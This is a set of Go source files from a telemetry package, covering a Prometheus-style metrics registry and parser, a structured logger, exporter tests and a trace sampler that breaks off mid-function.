	if labels == "" {
		return ""
	}
	return "{" + labels + "}"
}

func withLE(labels, le string) string {
	if labels == "" {
		return `le="` + le + `"`
	}
	return labels + `,le="` + le + `"`
}

func formatFloat(v float64) string {
	switch {
	case math.IsInf(v, 1):
		return "+Inf"
	case math.IsInf(v, -1):
		return "-Inf"
	}
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// Handler serves the registry at GET /metrics (any path it is mounted
// on). Safe on a nil registry (serves an empty document).
func (r *Registry) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if req.Method != http.MethodGet && req.Method != http.MethodHead {
			w.Header().Set("Allow", "GET, HEAD")
			http.Error(w, "method not allowed", http.StatusMethodNotAllowed)
			return
		}
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		if req.Method == http.MethodHead {
			return
		}
		_ = r.WritePrometheus(w)
	})
}

// ServeMetrics binds addr and serves the registry at GET /metrics in
// the background — the implementation behind the daemons' -metrics-addr
// flag. Extra mounts (e.g. MountPprof behind the -pprof flag) are
// applied to the same debug mux. It returns the bound address (useful
// with ":0" in tests) and a close func. Daemons with telemetry disabled
// simply never call it.
func (r *Registry) ServeMetrics(addr string, mounts ...func(*http.ServeMux)) (string, func() error, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", nil, err
	}
	mux := http.NewServeMux()
	mux.Handle("/metrics", r.Handler())
	for _, m := range mounts {
		if m != nil {
			m(mux)
		}
	}
	srv := &http.Server{Handler: mux}
	go func() { _ = srv.Serve(ln) }()
	return ln.Addr().String(), srv.Close, nil
}

// Sample is one parsed exposition line.
type Sample struct {
	Name   string
	Labels map[string]string
	Value  float64
	// Exemplar carries the OpenMetrics-style exemplar suffix of a
	// histogram bucket line, when present.
	Exemplar *SampleExemplar
}

// SampleExemplar is a parsed `# {labels} value` exemplar suffix.
type SampleExemplar struct {
	Labels map[string]string
	Value  float64
}

// TraceID is the exemplar's trace link ("" when absent).
func (e *SampleExemplar) TraceID() string {
	if e == nil {
		return ""
	}
	return e.Labels["trace_id"]
}

// Snapshot is a parsed exposition document, as scraped by raiadmin top.
type Snapshot struct {
	Samples []Sample
	types   map[string]string
}

// Type reports the declared TYPE of a family ("counter", "gauge",
// "histogram"), or "" if the scrape carried no declaration.
func (s *Snapshot) Type(name string) string { return s.types[name] }

// Value finds a sample by name and exact label set.
func (s *Snapshot) Value(name string, labels ...Label) (float64, bool) {
	want := renderLabels(labels)
	for _, smp := range s.Samples {
		if smp.Name != name {
			continue
		}
		ls := make([]Label, 0, len(smp.Labels))
		for k, v := range smp.Labels {
			ls = append(ls, Label{k, v})
		}
		if renderLabels(ls) == want {
			return smp.Value, true
		}
	}
	return 0, false
}

// ParseText parses a Prometheus text-format document. It understands
// the subset WritePrometheus emits (plus arbitrary label order), which
// is all the admin tooling needs.
func ParseText(r io.Reader) (*Snapshot, error) {
	snap := &Snapshot{types: map[string]string{}}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" {
			continue
		}
		if strings.HasPrefix(line, "#") {
			fields := strings.Fields(line)
			if len(fields) >= 4 && fields[1] == "TYPE" {
				snap.types[fields[2]] = fields[3]
			}
			continue
		}
		smp, err := parseSample(line)
		if err != nil {
			return nil, err
		}
		snap.Samples = append(snap.Samples, smp)
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return snap, nil
}

func parseSample(line string) (Sample, error) {
	smp := Sample{Labels: map[string]string{}}
	rest := line
	// Split off an OpenMetrics exemplar suffix (` # {...} value`) before
	// label parsing, so the exemplar's braces don't confuse the
	// LastIndex scan below.
	if i := strings.Index(rest, " # "); i >= 0 {
		ex, err := parseExemplar(strings.TrimSpace(rest[i+3:]))
		if err != nil {
			return smp, fmt.Errorf("telemetry: %v in %q", err, line)
		}
		smp.Exemplar = ex
		rest = strings.TrimSpace(rest[:i])
	}
	if i := strings.IndexAny(rest, "{ "); i < 0 {
		return smp, fmt.Errorf("telemetry: malformed sample %q", line)
	} else if rest[i] == '{' {
		smp.Name = rest[:i]
		end := strings.LastIndex(rest, "}")
		if end < i {
			return smp, fmt.Errorf("telemetry: unterminated labels in %q", line)
		}
		if err := parseLabels(rest[i+1:end], smp.Labels); err != nil {
			return smp, fmt.Errorf("telemetry: %v in %q", err, line)
		}
		rest = strings.TrimSpace(rest[end+1:])
	} else {
		smp.Name = rest[:i]
		rest = strings.TrimSpace(rest[i+1:])
	}
	// Value is the first field; an optional timestamp may follow.
	if i := strings.IndexByte(rest, ' '); i >= 0 {
		rest = rest[:i]
	}
	v, err := parseValue(rest)
	if err != nil {
		return smp, fmt.Errorf("telemetry: bad value in %q: %v", line, err)
	}
	smp.Value = v
	return smp, nil
}

func parseExemplar(s string) (*SampleExemplar, error) {
	if len(s) == 0 || s[0] != '{' {
		return nil, fmt.Errorf("malformed exemplar %q", s)
	}
	end := strings.IndexByte(s, '}')
	if end < 0 {
		return nil, fmt.Errorf("unterminated exemplar labels in %q", s)
	}
	ex := &SampleExemplar{Labels: map[string]string{}}
	if err := parseLabels(s[1:end], ex.Labels); err != nil {
		return nil, err
	}
	fields := strings.Fields(s[end+1:])
	if len(fields) == 0 {
		return nil, fmt.Errorf("exemplar %q has no value", s)
	}
	v, err := parseValue(fields[0])
	if err != nil {
		return nil, fmt.Errorf("bad exemplar value: %v", err)
	}
	ex.Value = v
	return ex, nil
}

func parseValue(s string) (float64, error) {
	switch s {
	case "+Inf":
		return math.Inf(1), nil
	case "-Inf":
		return math.Inf(-1), nil
	}
	return strconv.ParseFloat(s, 64)
}

func parseLabels(s string, into map[string]string) error {
	for len(s) > 0 {
		eq := strings.IndexByte(s, '=')
		if eq < 0 {
			return fmt.Errorf("missing = in labels")
		}
		key := strings.TrimSpace(s[:eq])
		s = s[eq+1:]
		if len(s) == 0 || s[0] != '"' {
			return fmt.Errorf("unquoted label value")
		}
		s = s[1:]
		var b strings.Builder
		i := 0
		for ; i < len(s); i++ {
			if s[i] == '\\' && i+1 < len(s) {
				i++
				switch s[i] {
				case 'n':
					b.WriteByte('\n')
				default:
					b.WriteByte(s[i])
				}
				continue
			}
			if s[i] == '"' {
				break
			}
			b.WriteByte(s[i])
		}
		if i == len(s) {
			return fmt.Errorf("unterminated label value")
		}
		into[key] = b.String()
		s = strings.TrimPrefix(strings.TrimSpace(s[i+1:]), ",")
		s = strings.TrimSpace(s)
	}
	return nil
}
