package telemetry

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"rai/internal/clock"
)

// Level orders event severities.
type Level int8

// Severity levels, least to most severe.
const (
	LevelDebug Level = iota
	LevelInfo
	LevelWarn
	LevelError
)

// String renders the level the way the wire format spells it.
func (l Level) String() string {
	switch l {
	case LevelDebug:
		return "debug"
	case LevelInfo:
		return "info"
	case LevelWarn:
		return "warn"
	default:
		return "error"
	}
}

// ParseLevel reads a level name (as accepted by the daemons' -log-level
// flags).
func ParseLevel(s string) (Level, error) {
	switch strings.ToLower(strings.TrimSpace(s)) {
	case "debug":
		return LevelDebug, nil
	case "info", "":
		return LevelInfo, nil
	case "warn", "warning":
		return LevelWarn, nil
	case "error":
		return LevelError, nil
	}
	return LevelInfo, fmt.Errorf("telemetry: unknown log level %q", s)
}

// Event is one structured log record. Trace identity and job ID are
// stamped from the context the record was emitted under, so the
// collector can index a job's merged stream across services.
type Event struct {
	Time    time.Time         `json:"ts"`
	Level   string            `json:"level"`
	Service string            `json:"service,omitempty"`
	Msg     string            `json:"msg"`
	TraceID string            `json:"trace_id,omitempty"`
	SpanID  string            `json:"span_id,omitempty"`
	JobID   string            `json:"job_id,omitempty"`
	Attrs   map[string]string `json:"attrs,omitempty"`
}

// Text renders the event in logfmt-style key=value form, keys sorted so
// lines are stable for tests and grep.
func (e Event) Text() string {
	var b strings.Builder
	b.WriteString(e.Time.UTC().Format(time.RFC3339Nano))
	b.WriteString(" level=")
	b.WriteString(e.Level)
	if e.Service != "" {
		b.WriteString(" service=")
		b.WriteString(e.Service)
	}
	b.WriteString(" msg=")
	b.WriteString(quoteIfNeeded(e.Msg))
	if e.JobID != "" {
		b.WriteString(" job_id=")
		b.WriteString(e.JobID)
	}
	if e.TraceID != "" {
		b.WriteString(" trace_id=")
		b.WriteString(e.TraceID)
	}
	if e.SpanID != "" {
		b.WriteString(" span_id=")
		b.WriteString(e.SpanID)
	}
	keys := make([]string, 0, len(e.Attrs))
	for k := range e.Attrs {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		b.WriteByte(' ')
		b.WriteString(k)
		b.WriteByte('=')
		b.WriteString(quoteIfNeeded(e.Attrs[k]))
	}
	return b.String()
}

func quoteIfNeeded(s string) string {
	if s == "" || strings.ContainsAny(s, " \t\"=\n") {
		return strconv.Quote(s)
	}
	return s
}

// Logger emits leveled, structured events. Each event goes to the
// writer (key=value or JSON lines, for the daemon's own log stream) and
// to the sink (the exporter, for the centralized pipeline). Either may
// be absent. A nil *Logger is valid and records nothing.
type Logger struct {
	service string
	min     Level
	clk     clock.Clock
	json    bool
	sink    func(Event)

	mu sync.Mutex
	w  io.Writer
}

// LoggerOption configures NewLogger.
type LoggerOption func(*Logger)

// WithLogWriter directs encoded lines to w (e.g. the daemon's stderr).
func WithLogWriter(w io.Writer) LoggerOption { return func(l *Logger) { l.w = w } }

// WithLogJSON switches the writer encoding from key=value to JSON lines.
func WithLogJSON() LoggerOption { return func(l *Logger) { l.json = true } }

// WithLogLevel drops events below min.
func WithLogLevel(min Level) LoggerOption { return func(l *Logger) { l.min = min } }

// WithLogClock substitutes the time source (virtual in simulations).
func WithLogClock(c clock.Clock) LoggerOption { return func(l *Logger) { l.clk = c } }

// WithLogSink hands every surviving event to fn — the hook the batch
// exporter plugs into. fn must not block; the exporter's enqueue is
// non-blocking by construction.
func WithLogSink(fn func(Event)) LoggerOption { return func(l *Logger) { l.sink = fn } }

// NewLogger returns a logger stamping events with the given service
// name ("raiworker", "raifs", ...).
func NewLogger(service string, opts ...LoggerOption) *Logger {
	l := &Logger{service: service, min: LevelInfo, clk: clock.Real{}}
	for _, o := range opts {
		o(l)
	}
	return l
}

// Log emits one event at the given level, stamping trace/span/job IDs
// from ctx. attrs are Label pairs (reusing the metric Label type).
func (l *Logger) Log(ctx context.Context, level Level, msg string, attrs ...Label) {
	if l == nil || level < l.min {
		return
	}
	e := Event{
		Time:    l.clk.Now(),
		Level:   level.String(),
		Service: l.service,
		Msg:     msg,
		JobID:   JobIDFrom(ctx),
	}
	if sc := SpanContextFrom(ctx); sc.Valid() {
		e.TraceID, e.SpanID = sc.TraceID, sc.SpanID
	}
	if len(attrs) > 0 {
		e.Attrs = make(map[string]string, len(attrs))
		for _, a := range attrs {
			e.Attrs[a.Key] = a.Value
		}
	}
	if l.w != nil {
		var line []byte
		if l.json {
			line, _ = json.Marshal(e)
		} else {
			line = []byte(e.Text())
		}
		l.mu.Lock()
		l.w.Write(append(line, '\n'))
		l.mu.Unlock()
	}
	if l.sink != nil {
		l.sink(e)
	}
}

// Debug emits a debug-level event.
func (l *Logger) Debug(ctx context.Context, msg string, attrs ...Label) {
	l.Log(ctx, LevelDebug, msg, attrs...)
}

// Info emits an info-level event.
func (l *Logger) Info(ctx context.Context, msg string, attrs ...Label) {
	l.Log(ctx, LevelInfo, msg, attrs...)
}

// Warn emits a warn-level event.
func (l *Logger) Warn(ctx context.Context, msg string, attrs ...Label) {
	l.Log(ctx, LevelWarn, msg, attrs...)
}

// Error emits an error-level event.
func (l *Logger) Error(ctx context.Context, msg string, attrs ...Label) {
	l.Log(ctx, LevelError, msg, attrs...)
}
