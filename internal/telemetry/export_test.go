package telemetry

import (
	"context"
	"errors"
	"sync"
	"testing"
	"time"

	"rai/internal/clock"
)

// batchSink is a ShipFunc capturing every published batch.
type batchSink struct {
	mu      sync.Mutex
	batches []*Batch
}

func (s *batchSink) ship(_ context.Context, b *Batch) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.batches = append(s.batches, b)
	return nil
}

func (s *batchSink) counts() (batches, spans, events int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, b := range s.batches {
		spans += len(b.Spans)
		events += len(b.Events)
	}
	return len(s.batches), spans, events
}

func TestExporterBatchesAndShips(t *testing.T) {
	var sink batchSink
	e := NewExporter(context.Background(), "svc", sink.ship)
	defer e.Close()

	for i := 0; i < 3; i++ {
		e.ExportSpan(SpanData{TraceID: "t1", SpanID: "s1", Name: "work"})
	}
	e.ExportEvent(Event{Level: "info", Msg: "hello"})
	e.Flush()

	batches, spans, events := sink.counts()
	if batches == 0 || spans != 3 || events != 1 {
		t.Fatalf("shipped batches=%d spans=%d events=%d, want >=1/3/1", batches, spans, events)
	}
	sink.mu.Lock()
	svc := sink.batches[0].Service
	sink.mu.Unlock()
	if svc != "svc" {
		t.Errorf("batch service = %q, want svc", svc)
	}
	if ds, de := e.Dropped(); ds != 0 || de != 0 {
		t.Errorf("dropped = %d/%d, want 0/0", ds, de)
	}
	if ss, se := e.Shipped(); ss != 3 || se != 1 {
		t.Errorf("shipped = %d/%d, want 3/1", ss, se)
	}
}

// TestExporterBackpressureNeverBlocks wedges the ship function and
// floods the exporter far past its buffer: every Export call must
// return immediately, with the overflow counted as drops — never
// delivered late, never blocking the caller.
func TestExporterBackpressureNeverBlocks(t *testing.T) {
	gate := make(chan struct{})
	blocked := make(chan struct{}, 1)
	ship := func(ctx context.Context, b *Batch) error {
		select {
		case blocked <- struct{}{}:
		default:
		}
		<-gate // wedged until the test releases it
		return nil
	}
	e := NewExporter(context.Background(), "svc", ship,
		WithExportQueue(4),
		WithExportBatch(1),                 // first record triggers the wedged publish
		WithExportInterval(time.Hour),      // timer never fires during the test
		WithExportShipTimeout(time.Minute)) // ctx deadline must not unwedge ship

	e.ExportSpan(SpanData{Name: "first"})
	<-blocked // publisher is now stuck inside ship

	const flood = 100
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < flood; i++ {
			e.ExportSpan(SpanData{Name: "span"})
			e.ExportEvent(Event{Msg: "event"})
		}
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("Export blocked while the ship function was wedged")
	}
	ds, de := e.Dropped()
	if ds+de == 0 {
		t.Fatalf("no drops recorded after flooding a wedged exporter (spans=%d events=%d)", ds, de)
	}
	if ds+de > flood*2 {
		t.Fatalf("dropped %d records, more than the %d exported", ds+de, flood*2)
	}
	close(gate)
	e.Close()

	// After Close, records are dropped (and counted), not delivered.
	before, _ := e.Dropped()
	e.ExportSpan(SpanData{Name: "late"})
	if after, _ := e.Dropped(); after != before+1 {
		t.Errorf("post-Close export: dropped went %d -> %d, want +1", before, after)
	}
}

// TestExporterFlushIntervalVirtualClock proves partial batches flush on
// the injected clock, keeping simulations deterministic.
func TestExporterFlushIntervalVirtualClock(t *testing.T) {
	vc := clock.NewVirtual(time.Date(2016, 11, 28, 9, 0, 0, 0, time.UTC))
	var sink batchSink
	e := NewExporter(context.Background(), "svc", sink.ship,
		WithExportClock(vc),
		WithExportInterval(10*time.Second),
		WithExportBatch(1000)) // size threshold never reached
	defer e.Close()

	e.ExportSpan(SpanData{Name: "lonely"})
	// Wait until the run loop has both armed the timer and consumed the
	// record, then fire the interval.
	deadline := time.Now().Add(5 * time.Second)
	for vc.PendingTimers() == 0 || len(e.ch) != 0 {
		if time.Now().After(deadline) {
			t.Fatal("exporter never armed its flush timer")
		}
		time.Sleep(time.Millisecond)
	}
	vc.Advance(10 * time.Second)
	for {
		if _, spans, _ := sink.counts(); spans == 1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("partial batch never flushed on the virtual clock")
		}
		time.Sleep(time.Millisecond)
	}
}

func TestExporterShipFailureCounted(t *testing.T) {
	reg := NewRegistry()
	e := NewExporter(context.Background(), "svc", func(context.Context, *Batch) error { return errors.New("broker down") },
		WithExportMetrics(reg))
	e.ExportSpan(SpanData{Name: "doomed"})
	e.Flush()
	e.Close()
	if ss, se := e.Shipped(); ss != 0 || se != 0 {
		t.Errorf("shipped = %d/%d despite ship failure", ss, se)
	}
	if got, ok := reg.Value("rai_telemetry_ship_failures_total"); !ok || got < 1 {
		t.Errorf("rai_telemetry_ship_failures_total = %v (ok=%v), want >= 1", got, ok)
	}
}

func TestNilExporter(t *testing.T) {
	var e *Exporter
	e.ExportSpan(SpanData{Name: "x"}) // must not panic
	e.ExportEvent(Event{Msg: "x"})
	e.Flush()
	e.Close()
	if ds, de := e.Dropped(); ds != 0 || de != 0 {
		t.Errorf("nil exporter dropped = %d/%d", ds, de)
	}
}

func TestBatchEncodeDecodeRoundTrip(t *testing.T) {
	in := &Batch{
		Service: "worker",
		Spans: []SpanData{{
			TraceID: "t1", SpanID: "s2", ParentID: "s1", Name: "build",
			Start: time.Date(2016, 11, 28, 9, 0, 0, 0, time.UTC),
			End:   time.Date(2016, 11, 28, 9, 0, 5, 0, time.UTC),
			Attrs: map[string]string{"job_id": "j1"},
		}},
		Events: []Event{{
			Time:  time.Date(2016, 11, 28, 9, 0, 1, 0, time.UTC),
			Level: "warn", Service: "worker", Msg: "slow build",
			TraceID: "t1", SpanID: "s2", JobID: "j1",
		}},
	}
	out, err := DecodeBatch(in.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if len(out.Spans) != 1 || len(out.Events) != 1 {
		t.Fatalf("round trip lost records: %+v", out)
	}
	if s := out.Spans[0]; s.Name != "build" || s.TraceID != "t1" || s.ParentID != "s1" ||
		!s.Start.Equal(in.Spans[0].Start) || s.Attrs["job_id"] != "j1" {
		t.Errorf("span round trip = %+v", s)
	}
	if out.Events[0].Msg != "slow build" || out.Events[0].Level != "warn" {
		t.Errorf("event round trip = %+v", out.Events[0])
	}
	if _, err := DecodeBatch([]byte("not json")); err == nil {
		t.Error("DecodeBatch accepted garbage")
	}
}
