// Package telemetry is the stdlib-only observability substrate for the
// RAI deployment: a concurrency-safe metrics registry with
// Prometheus-compatible text exposition, and a lightweight span tracer
// whose IDs travel inside job messages so one submission yields a
// single connected trace across client, broker, and worker.
//
// Instruments are safe for concurrent use and cheap on the hot path
// (lock-free atomics once obtained); callers on tight loops should
// fetch the instrument once and reuse it rather than re-resolving by
// name per event. All instrument methods are nil-receiver safe, so a
// component whose telemetry is disabled simply holds nil instruments
// and pays a single pointer test per event.
package telemetry

import (
	"fmt"
	"math"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
)

// Label is one metric dimension. Keep cardinality bounded: label by
// operation or topic class, never by job or user ID.
type Label struct {
	Key   string
	Value string
}

// L is shorthand for constructing a Label.
func L(key, value string) Label { return Label{Key: key, Value: value} }

// DefBuckets are general-purpose latency bucket bounds in seconds.
var DefBuckets = []float64{.005, .01, .025, .05, .1, .25, .5, 1, 2.5, 5, 10}

// QueueDelayBuckets match the paper's Figure 4 scale: queue delays run
// from sub-second off-peak to hours during the benchmarking-week burst.
var QueueDelayBuckets = []float64{0.1, 0.5, 1, 2, 5, 10, 30, 60, 120, 300, 600, 1800, 3600}

type kind int

const (
	kindCounter kind = iota
	kindGauge
	kindHistogram
)

func (k kind) String() string {
	switch k {
	case kindCounter:
		return "counter"
	case kindGauge:
		return "gauge"
	default:
		return "histogram"
	}
}

// Registry holds metric families and renders them in Prometheus text
// exposition format. The zero value is not usable; use NewRegistry. A
// nil *Registry is valid and hands out nil (no-op) instruments.
type Registry struct {
	mu       sync.Mutex
	families map[string]*family
	hdrs     map[string]*hdrFamily
}

// hdrFamily groups HDR histogram series under one exposition name.
// HDR families render as TYPE histogram with power-of-two `le` edges
// (and exemplars), so scrapers see them exactly like fixed-bucket
// histograms.
type hdrFamily struct {
	name string
	help string

	mu     sync.Mutex
	series map[string]*hdrSeries
}

type hdrSeries struct {
	labels []Label
	h      *HDRHistogram
}

type family struct {
	name    string
	help    string
	kind    kind
	buckets []float64 // histograms only

	mu     sync.Mutex
	series map[string]*series // keyed by rendered label set
}

type series struct {
	labels string // rendered `k="v",...` (sorted), "" if none

	// counter/gauge state: float64 bits.
	bits atomic.Uint64
	// gaugeFunc, if set, wins over bits at read time.
	fn func() float64

	// histogram state.
	counts  []atomic.Uint64 // one per bucket + one for +Inf
	sumBits atomic.Uint64
	count   atomic.Uint64
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{families: map[string]*family{}, hdrs: map[string]*hdrFamily{}}
}

// HDR registers (or fetches) an HDR histogram series: the high-range
// log-linear histogram for tail latencies, with exemplar support.
// Nil-registry safe (returns a nil histogram, which records nothing).
func (r *Registry) HDR(name, help string, labels ...Label) *HDRHistogram {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	if _, clash := r.families[name]; clash {
		r.mu.Unlock()
		panic(fmt.Sprintf("telemetry: %s already registered as a non-HDR family", name))
	}
	f, ok := r.hdrs[name]
	if !ok {
		f = &hdrFamily{name: name, help: help, series: map[string]*hdrSeries{}}
		r.hdrs[name] = f
	}
	r.mu.Unlock()
	key := renderLabels(labels)
	f.mu.Lock()
	defer f.mu.Unlock()
	s, ok := f.series[key]
	if !ok {
		s = &hdrSeries{labels: append([]Label(nil), labels...), h: NewHDRHistogram()}
		f.series[key] = s
	}
	return s.h
}

func (r *Registry) family(name, help string, k kind, buckets []float64) *family {
	r.mu.Lock()
	defer r.mu.Unlock()
	f, ok := r.families[name]
	if !ok {
		if _, clash := r.hdrs[name]; clash {
			panic(fmt.Sprintf("telemetry: %s already registered as an HDR family", name))
		}
		f = &family{name: name, help: help, kind: k, buckets: buckets, series: map[string]*series{}}
		r.families[name] = f
		return f
	}
	if f.kind != k {
		panic(fmt.Sprintf("telemetry: %s registered as %s, requested as %s", name, f.kind, k))
	}
	return f
}

func renderLabels(labels []Label) string {
	if len(labels) == 0 {
		return ""
	}
	ls := append([]Label(nil), labels...)
	sort.Slice(ls, func(i, j int) bool { return ls[i].Key < ls[j].Key })
	var b strings.Builder
	for i, l := range ls {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(l.Key)
		b.WriteString(`="`)
		b.WriteString(escapeLabel(l.Value))
		b.WriteByte('"')
	}
	return b.String()
}

func escapeLabel(v string) string {
	if !strings.ContainsAny(v, "\\\"\n") {
		return v
	}
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return r.Replace(v)
}

func (f *family) get(labels []Label) *series {
	key := renderLabels(labels)
	f.mu.Lock()
	defer f.mu.Unlock()
	s, ok := f.series[key]
	if !ok {
		s = &series{labels: key}
		if f.kind == kindHistogram {
			s.counts = make([]atomic.Uint64, len(f.buckets)+1)
		}
		f.series[key] = s
	}
	return s
}

func addFloat(bits *atomic.Uint64, delta float64) {
	for {
		old := bits.Load()
		next := math.Float64bits(math.Float64frombits(old) + delta)
		if bits.CompareAndSwap(old, next) {
			return
		}
	}
}

// Counter is a monotonically increasing metric.
type Counter struct{ s *series }

// Counter registers (or fetches) a counter series. Nil-registry safe.
func (r *Registry) Counter(name, help string, labels ...Label) *Counter {
	if r == nil {
		return nil
	}
	return &Counter{s: r.family(name, help, kindCounter, nil).get(labels)}
}

// Inc adds one.
func (c *Counter) Inc() { c.Add(1) }

// Add increases the counter; negative deltas are ignored.
func (c *Counter) Add(delta float64) {
	if c == nil || c.s == nil || delta < 0 {
		return
	}
	addFloat(&c.s.bits, delta)
}

// Value reads the current count.
func (c *Counter) Value() float64 {
	if c == nil || c.s == nil {
		return 0
	}
	return math.Float64frombits(c.s.bits.Load())
}

// Gauge is a metric that can go up and down.
type Gauge struct{ s *series }

// Gauge registers (or fetches) a gauge series. Nil-registry safe.
func (r *Registry) Gauge(name, help string, labels ...Label) *Gauge {
	if r == nil {
		return nil
	}
	return &Gauge{s: r.family(name, help, kindGauge, nil).get(labels)}
}

// Set stores an absolute value.
func (g *Gauge) Set(v float64) {
	if g == nil || g.s == nil {
		return
	}
	g.s.bits.Store(math.Float64bits(v))
}

// Add shifts the gauge by delta (may be negative).
func (g *Gauge) Add(delta float64) {
	if g == nil || g.s == nil {
		return
	}
	addFloat(&g.s.bits, delta)
}

// Value reads the gauge, consulting the callback for GaugeFunc series.
func (g *Gauge) Value() float64 {
	if g == nil || g.s == nil {
		return 0
	}
	if g.s.fn != nil {
		return g.s.fn()
	}
	return math.Float64frombits(g.s.bits.Load())
}

// GaugeFunc registers a gauge whose value is computed by fn at read
// time — the idiom for exporting state another subsystem already
// tracks (queue depth, bytes resident) without double bookkeeping.
func (r *Registry) GaugeFunc(name, help string, fn func() float64, labels ...Label) *Gauge {
	if r == nil {
		return nil
	}
	s := r.family(name, help, kindGauge, nil).get(labels)
	s.fn = fn
	return &Gauge{s: s}
}

// Histogram is a distribution with cumulative buckets.
type Histogram struct {
	s       *series
	buckets []float64
}

// Histogram registers (or fetches) a histogram series with the given
// upper bucket bounds (ascending; +Inf is implicit). Nil-registry safe.
// Bounds are fixed by the first registration of the family.
func (r *Registry) Histogram(name, help string, buckets []float64, labels ...Label) *Histogram {
	if r == nil {
		return nil
	}
	if len(buckets) == 0 {
		buckets = DefBuckets
	}
	for i := 1; i < len(buckets); i++ {
		if buckets[i] <= buckets[i-1] {
			panic(fmt.Sprintf("telemetry: %s buckets not ascending at %v", name, buckets[i]))
		}
	}
	f := r.family(name, help, kindHistogram, buckets)
	return &Histogram{s: f.get(labels), buckets: f.buckets}
}

// Observe records one sample.
func (h *Histogram) Observe(v float64) {
	if h == nil || h.s == nil {
		return
	}
	i := sort.SearchFloat64s(h.buckets, v) // first bound >= v (le is inclusive)
	h.s.counts[i].Add(1)
	addFloat(&h.s.sumBits, v)
	h.s.count.Add(1)
}

// Totals reports the sample count and sum.
func (h *Histogram) Totals() (count uint64, sum float64) {
	if h == nil || h.s == nil {
		return 0, 0
	}
	return h.s.count.Load(), math.Float64frombits(h.s.sumBits.Load())
}

// Value returns the current value of a counter or gauge series, or the
// sample count of a histogram series. ok is false if no such series
// has been registered.
func (r *Registry) Value(name string, labels ...Label) (v float64, ok bool) {
	if r == nil {
		return 0, false
	}
	r.mu.Lock()
	f, ok := r.families[name]
	r.mu.Unlock()
	if !ok {
		return 0, false
	}
	key := renderLabels(labels)
	f.mu.Lock()
	s, ok := f.series[key]
	f.mu.Unlock()
	if !ok {
		return 0, false
	}
	switch f.kind {
	case kindHistogram:
		return float64(s.count.Load()), true
	default:
		if s.fn != nil {
			return s.fn(), true
		}
		return math.Float64frombits(s.bits.Load()), true
	}
}
