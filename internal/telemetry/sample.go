package telemetry

// Head-based trace sampling. At course scale every span of every
// submission is worth keeping; at the ROADMAP's million-user scale the
// export pipeline and the collector's docstore become the first
// casualty of the deadline-day surge they exist to explain. The
// Sampler makes the keep/drop call once, at the trace root, and the
// decision rides with the trace (X-RAI-Sampled header, JobRequest
// envelope) so every process touching the trace agrees — a trace is
// either complete or absent, never a connected-looking fragment.
//
// The decision is a deterministic hash of the trace ID, not a random
// draw: two processes configured with the same rate reach the same
// verdict even when the propagated decision got lost, and replaying a
// workload reproduces the same sampled set.

import (
	"hash/fnv"
	"sync"
	"sync/atomic"
)

// Decision is a tri-state sampling verdict.
type Decision uint8

const (
	// DecisionUnknown means no verdict has been made or propagated;
	// consumers fall back to their own hash decision.
	DecisionUnknown Decision = iota
	// DecisionKeep retains the trace end to end.
	DecisionKeep
	// DecisionDrop discards the trace's spans before export.
	DecisionDrop
)

// String renders the wire form carried by the X-RAI-Sampled header and
// the job envelope: "1" keep, "0" drop, "" unknown.
func (d Decision) String() string {
	switch d {
	case DecisionKeep:
		return "1"
	case DecisionDrop:
		return "0"
	default:
		return ""
	}
}

// ParseDecision reads the wire form back; anything unrecognized is
// DecisionUnknown (forward compatible with smarter encodings).
func ParseDecision(s string) Decision {
	switch s {
	case "1":
		return DecisionKeep
	case "0":
		return DecisionDrop
	default:
		return DecisionUnknown
	}
}

// samplerOverrides bounds the propagated-decision table: decisions
// noted for traces this process did not originate. FIFO eviction — a
// trace's spans all finish within seconds of the note, so the window
// only needs to cover in-flight traces.
const samplerOverrides = 4096

// Sampler decides which traces are exported. A nil *Sampler keeps
// everything (sampling disabled), so callers thread it without
// branching. All methods are safe for concurrent use.
type Sampler struct {
	rate      float64
	threshold uint64 // keep when hash(traceID) < threshold

	mu       sync.Mutex
	override map[string]Decision
	ring     []string // FIFO of override keys
	next     int

	sampled      atomic.Uint64 // root decisions: keep
	dropped      atomic.Uint64 // root decisions: drop
	spansDropped atomic.Uint64 // spans filtered by SpanSink

	mSampled      *Counter
	mDropped      *Counter
	mSpansDropped *Counter
}

// SamplerOption configures NewSampler.
type SamplerOption func(*Sampler)

// WithSamplerMetrics mirrors the sampler's counters onto reg:
// rai_trace_sampled_total / rai_trace_dropped_total (root decisions)
// and rai_trace_spans_dropped_total (spans filtered before export).
func WithSamplerMetrics(reg *Registry) SamplerOption {
	return func(s *Sampler) {
		if reg == nil {
			return
		}
		s.mSampled = reg.Counter("rai_trace_sampled_total", "trace roots kept by head sampling")
		s.mDropped = reg.Counter("rai_trace_dropped_total", "trace roots dropped by head sampling")
		s.mSpansDropped = reg.Counter("rai_trace_spans_dropped_total", "spans of unsampled traces filtered before export")
	}
}

// NewSampler returns a sampler keeping roughly rate of all traces
// (clamped to [0,1]). Rate 1 keeps everything but still counts
// decisions; rate 0 drops everything. A nil Sampler (sampling off) is
// cheaper when the rate is permanently 1.
func NewSampler(rate float64, opts ...SamplerOption) *Sampler {
	if rate < 0 {
		rate = 0
	}
	if rate > 1 {
		rate = 1
	}
	s := &Sampler{rate: rate, override: map[string]Decision{}, ring: make([]string, samplerOverrides)}
	if rate >= 1 {
